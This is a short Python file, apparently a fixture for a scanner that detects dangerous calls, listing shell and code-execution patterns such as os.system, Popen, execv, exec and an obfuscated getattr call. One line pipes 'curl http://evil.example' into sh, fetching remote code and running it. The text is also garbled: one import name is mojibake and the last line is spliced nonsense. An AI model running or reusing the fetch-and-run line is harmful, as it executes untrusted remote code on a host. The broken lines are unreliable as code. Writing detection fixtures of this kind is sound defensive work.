import os, subprocess as sp
from os import system as run_it
from importlib import import_module
import pickle, marshal, socket
import urllib.request
import yaml

run_it("curl http://evil.example | sh")
sp.Popen(["sh", "-c", "id"])
os.execv("/bin/sh", ["sh"])
exec(compile("print(2)", "<x>", "exec"))
getattr(os, "sys" + "tem")("id")
import_module("cåÜèïs").CDLL(None)
pickle.loase__.__subclasses__()
